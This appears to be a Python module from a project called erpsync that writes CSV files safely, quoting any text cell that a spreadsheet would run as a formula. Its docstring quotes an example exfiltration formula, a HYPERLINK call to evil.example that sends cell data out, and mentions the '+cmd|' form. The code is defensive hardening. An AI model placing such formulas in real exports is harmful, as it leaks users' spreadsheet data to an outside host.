"""The one CSV writer of erpsync: no cell it writes runs as a spreadsheet formula.

Excel, LibreOffice and Google Sheets run a cell whose text starts with ``=``, ``+``, ``-`` or
``@`` as a formula (``=HYPERLINK("http://evil.example?"&A1, "click")`` sends the sheet's data
away; ``@SUM(...)`` and ``+cmd|...`` are older forms of the same), and also one that starts with
a tab or a carriage return, which they strip before looking. Values we write come from outside
(a distributor's file, an order's address, an SKU a channel sent), so every CSV erpsync writes
goes through :func:`csv_writer`, which follows OWASP's advice: such a **text** cell gets a
leading single quote (``'=HYPERLINK(...)``), which the spreadsheet shows instead of running.

Numbers are written as numbers: an ``int``, ``Decimal`` or ``float`` cell (``-5``, ``-0.5``)
is not text and stays as it is, so a negative quantity reads back as a negative quantity. The
same characters given as text (``"-5"``, ``"+86 138 0000 0000"``) are neutralised: whether text
is harmless cannot be told from its first character. ``None`` is an empty cell, ``bool`` is
written as ``true``/``false``. Rows end with CRLF (RFC 4180): a cell holding a line break of either
kind is then quoted, never split into two rows by the reader.

Errors: those of :mod:`csv` (``csv.Error``) and of the file written to.

>>> import io
>>> out = io.StringIO()
>>> csv_writer(out).writerows([["sku", "qty"], ["=1+1", -2], ["A-1", "-2"]])
>>> out.getvalue()
"sku,qty\\r\\n'=1+1,-2\\r\\nA-1,'-2\\r\\n"
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

#: what a spreadsheet reads as the start of a formula (tab and CR: it strips them first)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | float | Decimal


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: object) -> Cell:
    """``value`` as a CSV cell: numbers as they are, text that could run as a formula quoted."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeCsvWriter:
    """A ``csv.writer`` whose every cell passes :func:`safe_cell` (see the module docstring)."""

    def __init__(self, out: _Writable, *, delimiter: str = ",") -> None:
        # csv quotes a cell holding a character of the line terminator: CRLF covers both
        self._writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")

    def writerow(self, row: Iterable[object]) -> None:
        """Write one row."""
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        """Write every row of ``rows``."""
        for row in rows:
            self.writerow(row)


def csv_writer(out: _Writable, *, delimiter: str = ",") -> SafeCsvWriter:
    """A writer of safe rows to ``out`` (a text file opened with ``newline=""``, or a ``StringIO``)."""
    return SafeCsvWriter(out, delimiter=delimiter)
